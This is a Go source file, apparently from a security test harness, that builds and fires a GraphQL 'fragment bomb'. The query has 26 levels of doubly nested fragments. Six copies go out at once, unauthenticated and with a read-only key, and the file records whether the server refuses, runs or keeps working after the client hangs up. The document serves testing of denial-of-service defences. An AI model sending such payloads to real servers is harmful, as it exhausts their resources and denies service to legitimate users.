package main

import (
	"context"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

// The fragment bomb: a small document whose fragments each spread the
// next one twice, so that whatever walks it path by path visits 2^levels
// selections.
const (
	bombLevels  = 26
	bombCopies  = 6                // sent at once
	bombTimeout = 30 * time.Second // the attacker then hangs up
)

// bombAttacks returns the fragment bomb sent without a key and with a
// READ_ONLY key of the attacker.
func bombAttacks() []attack {
	return []attack{
		{name: "fragment-bomb", run: func(ctx context.Context, t *target) outcome { return fragmentBomb(t, "") }},
		{name: "fragment-bomb-key", run: func(ctx context.Context, t *target) outcome {
			k, err := createKey(ctx, t, t.attackerAdmin.SecretKey, "READ_ONLY", "bomber")
			if err != nil {
				return failed("creating the attacker's key", err)
			}
			return fragmentBomb(t, k.SecretKey)
		}},
	}
}

// fragmentDoc returns `query { ...F0 } fragment F0 on Query { __typename
// ...F1 ...F1 } … fragment F<n-1> on Query { __typename }`.
func fragmentDoc(levels int) string {
	var b strings.Builder
	b.WriteString("query { ...F0 }")
	for i := range levels - 1 {
		fmt.Fprintf(&b, " fragment F%d on Query { __typename ...F%d ...F%d }", i, i+1, i+1)
	}
	fmt.Fprintf(&b, " fragment F%d on Query { __typename }", levels-1)
	return b.String()
}

// fragmentBomb sends bombCopies bombs at once with secret (none when
// empty), each waiting bombTimeout for its answer, and says how they were
// answered. It does not stop at the window's end: hanging up is what shows
// whether the server goes on working for a client that left.
func fragmentBomb(t *target, secret string) outcome {
	doc := fragmentDoc(bombLevels)
	body := gqlBody(doc, nil)
	client := &http.Client{Timeout: bombTimeout}
	type answer struct {
		took time.Duration
		what string
	}
	answers := make([]answer, bombCopies)
	var wg sync.WaitGroup
	for i := range bombCopies {
		wg.Go(func() {
			start := time.Now()
			r, err := t.do(context.Background(), client, secret, body)
			a := answer{took: time.Since(start)}
			switch {
			case err != nil && a.took >= bombTimeout-time.Second:
				a.what = "unanswered when the attacker hung up"
			case err != nil:
				a.what = "failed: " + err.Error()
			case r.Err() == nil:
				a.what = "ran"
			default:
				a.what = fmt.Sprintf("refused (HTTP %d %s)", r.Status, r.Code())
			}
			answers[i] = a
		})
	}
	wg.Wait()
	byWhat := map[string][]time.Duration{}
	var kinds []string
	for _, a := range answers {
		if byWhat[a.what] == nil {
			kinds = append(kinds, a.what)
		}
		byWhat[a.what] = append(byWhat[a.what], a.took)
	}
	var parts []string
	figures := map[string]any{"documentBytes": len(doc), "sent": bombCopies}
	for _, what := range kinds {
		took := byWhat[what]
		slices.Sort(took)
		parts = append(parts, fmt.Sprintf("%d of %d %s after %s s", len(took), bombCopies, what, span(took[0], took[len(took)-1])))
		figures[what] = len(took)
	}
	details := []string{fmt.Sprintf("a %d-byte document of %d fragment levels (%d paths), %d at once, each given %v",
		len(doc), bombLevels, 1<<bombLevels, bombCopies, bombTimeout)}
	return outcome{summary: strings.Join(parts, "; "), details: details, figures: figures}
}
